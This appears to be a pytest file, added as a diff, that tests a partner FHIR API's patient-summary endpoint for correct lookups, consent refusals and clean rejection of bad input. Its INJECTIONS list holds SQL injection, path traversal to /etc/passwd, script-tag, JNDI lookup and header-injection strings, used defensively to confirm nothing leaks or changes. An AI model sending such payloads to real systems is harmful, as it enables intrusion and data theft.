@@ -1,0 +1,247 @@
+"""The partner FHIR API: $summary by identifier, parameters, and every kind of bad input."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from tests.partner_api.conftest import DUPONT, FR_INS_SYSTEM, INS, code_of, plain, stored_state
+
+
+def parameters(**values) -> dict:
+    out = []
+    for name, value in values.items():
+        if name == "identifier" and isinstance(value, dict):
+            out.append({"name": name, "valueIdentifier": value})
+        elif name in ("gender", "country", "language"):
+            out.append({"name": name, "valueCode": value})
+        elif name == "birthdate":
+            out.append({"name": name, "valueDate": value})
+        else:
+            out.append({"name": name, "valueString": value})
+    return {"resourceType": "Parameters", "parameter": out}
+
+
+DUPONT_PARAMETERS = parameters(identifier={"system": FR_INS_SYSTEM, "value": INS}, family="Dupont", given="Marie",
+                               birthdate="1984-05-12", gender="female")
+
+
+def post_summary(session, base, body, content_type="application/fhir+json", **kwargs):
+    data = body if isinstance(body, bytes | str) else json.dumps(body)
+    return session.post(base + "/Patient/$summary", data=data, headers={"Content-Type": content_type, **kwargs.pop(
+        "headers", {})}, timeout=15, **kwargs)
+
+
+def test_post_summary_by_identifier(partner):
+    resp = post_summary(partner.session(), partner.fhir, DUPONT_PARAMETERS, params={"language": "en"})
+    assert resp.status_code == 200, resp.text
+    doc = resp.json()
+    assert doc["resourceType"] == "Bundle" and doc["type"] == "document"
+    assert doc["entry"][0]["resource"]["resourceType"] == "Composition"
+    assert resp.headers["Content-Language"] == "en"
+    assert resp.headers["X-Terminology-Coverage"].startswith("codings=")
+
+
+def test_post_summary_with_explicit_country_and_string_identifier(partner):
+    body = parameters(identifier=f"{FR_INS_SYSTEM}|{INS}", country="FR", family="DUPONT", given="Marie",
+                      birthdate="1984-05-12", gender="female", language="fr")
+    resp = post_summary(partner.session(), partner.fhir, body)
+    assert resp.status_code == 200, resp.text
+    assert resp.headers["Content-Language"] == "fr"
+
+
+def test_get_summary_by_identifier_same_as_post(partner):
+    resp = partner.session().get(partner.fhir + "/Patient/$summary", params={**DUPONT, "language": "de"}, timeout=15)
+    assert resp.status_code == 200, resp.text
+    assert resp.json()["type"] == "document"
+
+
+def test_summary_by_identifier_no_match_is_404(partner):
+    body = parameters(identifier={"system": FR_INS_SYSTEM, "value": INS}, family="Martin", given="Marie",
+                      birthdate="1984-05-12", gender="female")
+    resp = post_summary(partner.session(), partner.fhir, body)
+    assert resp.status_code == 404 and code_of(resp) == "UNKNOWN_PATIENT"
+
+
+def test_summary_by_identifier_consent_refusal_is_403(partner):
+    from tests.conftest import OPPOSED_INS
+
+    body = parameters(identifier={"system": FR_INS_SYSTEM, "value": OPPOSED_INS}, family="Leroy", given="Jean",
+                      birthdate="1970-02-13", gender="male")
+    resp = post_summary(partner.session(), partner.fhir, body)
+    assert resp.status_code == 403 and code_of(resp) == "ACCESS_REFUSED"
+    assert "Leroy" not in resp.text
+
+
+def test_summary_by_identifier_needs_a_country(partner):
+    body = parameters(identifier=INS, family="Dupont", given="Marie", birthdate="1984-05-12", gender="female")
+    resp = post_summary(partner.session(), partner.fhir, body)
+    assert resp.status_code == 400 and code_of(resp) == "MISSING_PARAMETER"
+
+
+# --- parameters ------------------------------------------------------------------------------------
+
+
+def test_unknown_parameters_are_ignored_and_the_self_link_shows_what_was_used(partner):
+    resp = partner.session().get(partner.fhir + "/Patient", params={"country": "FR", **DUPONT, "_count": "5",
+                                                                    "address-city": "Paris"}, timeout=10)
+    assert resp.status_code == 200, resp.text
+    bundle = resp.json()
+    assert bundle["total"] == 1
+    self_link = next(link["url"] for link in bundle["link"] if link["relation"] == "self")
+    assert "country=FR" in self_link and "_count" not in self_link and "address-city" not in self_link
+
+
+def test_unknown_parameters_are_refused_with_prefer_strict(partner):
+    resp = partner.session().get(partner.fhir + "/Patient", params={"country": "FR", **DUPONT, "_count": "5"},
+                                 headers={"Prefer": "handling=strict"}, timeout=10)
+    assert resp.status_code == 400 and code_of(resp) == "UNKNOWN_PARAMETER"
+    assert "_count" in resp.json()["issue"][0]["diagnostics"]
+    body = {**DUPONT_PARAMETERS, "parameter": [*DUPONT_PARAMETERS["parameter"], {"name": "onlyMe", "valueString": "x"}]}
+    strict = post_summary(partner.session(), partner.fhir, body, headers={"Prefer": "handling=strict"})
+    assert strict.status_code == 400 and code_of(strict) == "UNKNOWN_PARAMETER"
+    lenient = post_summary(partner.session(), partner.fhir, body)
+    assert lenient.status_code == 200
+
+
+def test_repeated_parameter_is_refused(partner):
+    resp = partner.session().get(partner.fhir + "/Patient", params=[("country", "FR"), ("family", "Dupont"),
+                                                                    ("family", "Martin")], timeout=10)
+    assert resp.status_code == 400 and code_of(resp) == "REPEATED_PARAMETER"
+
+
+def test_format_other_than_json_is_406(partner):
+    resp = partner.session().get(partner.fhir + "/Patient", params={"country": "FR", **DUPONT, "_format": "xml"},
+                                 timeout=10)
+    assert resp.status_code == 406 and code_of(resp) == "UNSUPPORTED_FORMAT"
+    ok = plain(partner.running).get(partner.fhir + "/metadata", params={"_format": "json"}, timeout=10)
+    assert ok.status_code == 200
+
+
+def test_missing_country_is_400(partner):
+    resp = partner.session().get(partner.fhir + "/Patient", params=DUPONT, timeout=10)
+    assert resp.status_code == 400 and code_of(resp) == "MISSING_PARAMETER"
+
+
+def test_wrong_method_is_405_with_allow(partner):
+    session = partner.session()
+    resp = session.delete(partner.fhir + "/Patient", timeout=10)
+    assert resp.status_code == 405 and code_of(resp) == "METHOD_NOT_ALLOWED"
+    assert resp.headers["Allow"] == "GET"
+    put = session.put(partner.fhir + "/Patient/$summary", timeout=10)
+    assert put.status_code == 405 and put.headers["Allow"] == "GET, POST"
+    assert session.get(partner.fhir + "/Observation", timeout=10).status_code == 404
+
+
+# --- bad input: a clear OperationOutcome, nothing stored changes -------------------------------------
+
+
+INJECTIONS = [
+    "' OR '1'='1", "1; DROP TABLE patients; --", "../../../../etc/passwd", "<script>alert(1)</script>",
+    "${jndi:ldap://x.example/a}", "%00", "a\r\nX-Injected: 1", "\u0000", "\u202e", "🙂" * 70, "x" * 300,
+    f"{FR_INS_SYSTEM}|{INS}' --", "urn:oid:1.2.250.1.213.1.4.8|' UNION SELECT * FROM clients --",
+]
+
+
+@pytest.mark.parametrize("value", INJECTIONS)
+def test_injection_attempts_in_identifiers(countries, partner, value):
+    before = stored_state(countries)
+    session = partner.session()
+    search = session.get(partner.fhir + "/Patient", params={"country": "FR", **DUPONT, "identifier": value},
+                         timeout=10)
+    body = parameters(identifier=value, country="FR", family="Dupont", given="Marie", birthdate="1984-05-12",
+                      gender="female")
+    summary = post_summary(session, partner.fhir, body)
+    by_id = session.get(partner.fhir + "/Patient/fr-" + value.replace("/", "%2F") + "/$summary", timeout=10)
+    for resp in (search, summary, by_id):
+        assert resp.status_code < 500, resp.text
+        assert resp.headers["X-Request-ID"]
+        assert "Traceback" not in resp.text and "sqlite" not in resp.text.lower()
+        if resp.status_code == 200:  # a harmless value that simply matched no one
+            assert resp.json()["total"] == 0
+        else:
+            assert resp.status_code in (400, 404, 422), resp.text
+            assert code_of(resp)
+    assert stored_state(countries) == before
+
+
+@pytest.mark.parametrize("case, status, code", [
+    ("wrong-content-type", 415, "UNSUPPORTED_MEDIA_TYPE"),
+    ("form-body", 415, "UNSUPPORTED_MEDIA_TYPE"),
+    ("malformed-json", 400, "MALFORMED_JSON"),
+    ("empty-body", 400, "MALFORMED_JSON"),
+    ("not-parameters", 422, "INVALID_PARAMETERS"),
+    ("parameter-not-a-list", 422, "INVALID_PARAMETERS"),
+    ("wrong-value-type", 422, "INVALID_PARAMETER_VALUE"),
+    ("two-values", 422, "INVALID_PARAMETER_VALUE"),
+    ("identifier-without-value", 422, "INVALID_PARAMETER_VALUE"),
+    ("repeated", 400, "REPEATED_PARAMETER"),
+    ("missing-identifier", 400, "MISSING_PARAMETER"),
+    ("oversized", 413, "PAYLOAD_TOO_LARGE"),
+    ("own-country", 400, "OWN_COUNTRY"),
+    ("unknown-country", 404, "UNKNOWN_COUNTRY"),
+    ("missing-trait", 400, "MISSING_TRAIT"),
+])
+def test_bad_bodies(countries, partner, case, status, code):
+    before = stored_state(countries)
+    good = DUPONT_PARAMETERS
+    content_type = "application/fhir+json"
+    body: object = good
+    if case == "wrong-content-type":
+        content_type = "text/plain"
+    elif case == "form-body":
+        content_type, body = "application/x-www-form-urlencoded", "identifier=1"
+    elif case == "malformed-json":
+        body = '{"resourceType": "Parameters", "parameter": [}'
+    elif case == "empty-body":
+        body = ""
+    elif case == "not-parameters":
+        body = {"resourceType": "Patient", "id": "x"}
+    elif case == "parameter-not-a-list":
+        body = {"resourceType": "Parameters", "parameter": {"name": "identifier"}}
+    elif case == "wrong-value-type":
+        body = parameters(family="Dupont") | {"parameter": [{"name": "identifier", "valueBoolean": True}]}
+    elif case == "two-values":
+        body = {"resourceType": "Parameters", "parameter": [{"name": "identifier", "valueString": INS,
+                                                             "valueCode": INS}]}
+    elif case == "identifier-without-value":
+        body = {"resourceType": "Parameters", "parameter": [{"name": "identifier", "valueIdentifier": {
+            "system": FR_INS_SYSTEM}}]}
+    elif case == "repeated":
+        body = {**good, "parameter": [*good["parameter"], {"name": "family", "valueString": "Martin"}]}
+    elif case == "missing-identifier":
+        body = parameters(country="FR", family="Dupont")
+    elif case == "oversized":
+        body = {**good, "parameter": [*good["parameter"], {"name": "padding", "valueString": "x" * 100_000}]}
+    elif case == "own-country":
+        body = parameters(identifier="X123456789", country="DE", family="Schmidt")
+    elif case == "unknown-country":
+        body = parameters(identifier="123", country="ZZ", family="Doe")
+    elif case == "missing-trait":
+        body = parameters(identifier={"system": FR_INS_SYSTEM, "value": INS}, family="Dupont")
+    resp = post_summary(partner.session(), partner.fhir, body, content_type=content_type)
+    assert resp.status_code == status, resp.text
+    assert code_of(resp) == code
+    assert resp.headers["Content-Type"].startswith("application/fhir+json")
+    assert resp.headers["X-Request-ID"]
+    assert "Traceback" not in resp.text
+    assert stored_state(countries) == before
+
+
+def test_every_response_has_a_request_id_and_no_stack_trace(countries, partner):
+    session = partner.session()
+    base = partner.base
+    responses = [
+        plain(countries).get(base + "/fhir/metadata", timeout=10),
+        plain(countries).get(base + "/openapi.json", timeout=10),
+        plain(countries).get(base + "/.well-known/smart-configuration", timeout=10),
+        plain(countries).post(base + "/oauth/token", data="x", timeout=10),
+        plain(countries).get(base + "/fhir/Patient", timeout=10),
+        session.get(base + "/fhir/Patient/fr-x/$summary", params={"language": "tlh"}, timeout=10),
+        session.get(base + "/fhir/nothing/here", timeout=10),
+        session.patch(base + "/fhir/metadata", timeout=10),
+    ]
+    for resp in responses:
+        assert len(resp.headers.get("X-Request-ID", "")) >= 8, resp.url
+        assert "Traceback" not in resp.text and 'File "' not in resp.text
